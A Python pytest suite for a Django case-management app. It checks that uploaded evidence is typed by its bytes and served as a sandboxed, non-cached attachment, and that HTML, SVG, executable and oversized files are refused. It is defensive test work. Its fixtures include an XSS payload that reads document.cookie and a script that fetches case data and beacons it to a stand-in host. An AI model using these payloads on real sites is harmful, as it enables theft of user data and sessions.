"""Evidence is served as a download the browser cannot run: its type is the server's reading of
the bytes (never a script or HTML type, whatever the uploader said), as an attachment, with
nosniff, a sandboxing Content Security Policy and no caching. An uploader's content type is
ignored, so a very long one is no error either."""

from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from django_tenants.utils import tenant_context

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 40
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
SCRIPT = b"fetch('/api/cases/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
PAGE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
BINARY = bytes(range(256)) * 4
UNSAFE = ("javascript", "ecmascript", "html", "xml", "svg")


@pytest.fixture
def case(db, program_a, world):
    from tenants.models import Participant
    from workflow import services

    with tenant_context(program_a):
        person = Participant.objects.create(code="E-1", alias="")
        case = services.report_case(
            actor=world.users["a_staff"],
            kind="incident",
            occurred_at=timezone.now() - timedelta(hours=1),
            narrative="Something was broken.",
            categories=["property_damage"],
            severity="low",
            parties=[{"role": "harmed_person", "participant": person}],
        )
        services.acknowledge_case(actor=world.users["a_staff"], case=case)
        services.start_investigation(
            actor=world.users["a_lead"], case=case, investigator=world.users["a_staff2"]
        )
        return case


def _upload(client, case, content, claimed, name="upload.bin"):
    upload = SimpleUploadedFile(name, content, claimed)
    response = client.post(f"/api/cases/{case.pk}/evidence/", {"file": upload})
    assert response.status_code == 201, response.content
    return response.json()["evidence"][-1]


def _assert_safe_download(response, content, expected_type):
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == content
    served = response.headers["Content-Type"]
    assert served.split(";")[0] == expected_type, served
    assert not any(word in served.lower() for word in UNSAFE), served
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    csp = response.headers["Content-Security-Policy"]
    assert csp.startswith("sandbox") and "default-src 'none'" in csp, csp
    assert "no-store" in response.headers["Cache-Control"]


@pytest.mark.parametrize(
    "content, claimed, expected",
    [
        (SCRIPT, "text/javascript", "text/plain"),
        (PNG, "text/html", "image/png"),
        (PDF, "application/javascript", "application/pdf"),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 30, "image/jpeg", "image/jpeg"),
    ],
)
def test_evidence_is_served_by_what_it_is_not_by_what_the_uploader_said(
    case, client_for, program_a, world, content, claimed, expected
):
    staff = client_for(program_a, world.users["a_staff"])
    evidence = _upload(staff, case, content, claimed)
    assert evidence["content_type"].split(";")[0] == expected
    _assert_safe_download(staff.get(evidence["download_url"]), content, expected)
    page = staff.get(f"/cases/{case.pk}/evidence/{evidence['id']}/")
    _assert_safe_download(page, content, expected)


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"PE\x00\x00"


@pytest.mark.parametrize(
    "name, content, claimed",
    [
        ("holiday.jpg", EXE, "image/jpeg"),  # a program renamed as a photo
        ("page.html", PAGE, "text/html"),
        ("drawing.svg", SVG, "image/svg+xml"),
        ("data.bin", BINARY, "application/octet-stream"),
    ],
)
def test_files_that_are_not_evidence_kinds_are_refused_with_what_is_accepted(
    case, client_for, program_a, world, name, content, claimed
):
    from workflow.models import EvidenceFile

    staff = client_for(program_a, world.users["a_staff"])
    answer = staff.post(
        f"/api/cases/{case.pk}/evidence/", {"file": SimpleUploadedFile(name, content, claimed)}
    )
    assert answer.status_code == 400
    assert "Attach a photo or other image, a PDF, plain text" in answer.json()["file"][0]
    web = staff.post(
        f"/cases/{case.pk}/steps/attach_evidence/",
        {"attach_evidence-file": SimpleUploadedFile(name, content, claimed)},
    )
    assert web.status_code == 400 and "cannot be attached" in web.text
    with tenant_context(program_a):
        assert not EvidenceFile.objects.filter(case=case).exists()


def test_an_oversized_file_is_refused_with_the_limit(case, client_for, program_a, world, settings):
    settings.EVIDENCE_MAX_MB = 1
    staff = client_for(program_a, world.users["a_staff"])
    big = SimpleUploadedFile("video.mp4", PNG + b"\x00" * (1024 * 1024), "video/mp4")
    answer = staff.post(f"/api/cases/{case.pk}/evidence/", {"file": big})
    assert answer.status_code == 400
    assert "at most 1 MB" in answer.json()["file"][0]


@pytest.mark.parametrize(
    "content, expected",
    [(PAGE, "text/plain"), (SVG, "text/plain"), (BINARY, "application/octet-stream")],
)
def test_files_stored_before_the_upload_rules_are_served_safely(
    case, client_for, program_a, world, content, expected
):
    """Files of any kind could be attached before: they are still served as downloads that
    the browser cannot run."""
    from django.core.files.base import ContentFile

    from workflow.models import EvidenceFile

    with tenant_context(program_a):
        evidence = EvidenceFile(
            case=case,
            original_name="old-upload",
            content_type="text/html",
            size=len(content),
            sha256="0" * 64,
            uploaded_by=world.users["a_staff"],
        )
        evidence.file.save(str(evidence.id), ContentFile(content), save=False)
        evidence.save()
    staff = client_for(program_a, world.users["a_staff"])
    page = staff.get(f"/cases/{case.pk}/evidence/{evidence.pk}/")
    _assert_safe_download(page, content, expected)


def test_files_already_stored_with_a_script_type_are_served_safely(
    case, client_for, program_a, world
):
    """The type is read from the bytes when served, not taken from the stored row."""
    from workflow.models import EvidenceFile

    staff = client_for(program_a, world.users["a_staff"])
    evidence = _upload(staff, case, SCRIPT, "text/plain")
    with tenant_context(program_a):
        EvidenceFile.objects.filter(pk=evidence["id"]).update(content_type="text/javascript")
    _assert_safe_download(staff.get(evidence["download_url"]), SCRIPT, "text/plain")


def test_a_very_long_claimed_type_is_ignored_not_a_server_error(case, client_for, program_a, world):
    staff = client_for(program_a, world.users["a_staff"])
    claimed = "image/" + "x" * 150
    evidence = _upload(staff, case, PNG, claimed)
    assert evidence["content_type"] == "image/png"
    web = staff.post(
        f"/cases/{case.pk}/steps/attach_evidence/",
        {"attach_evidence-file": SimpleUploadedFile("p.png", PNG, claimed)},
    )
    assert web.status_code == 302
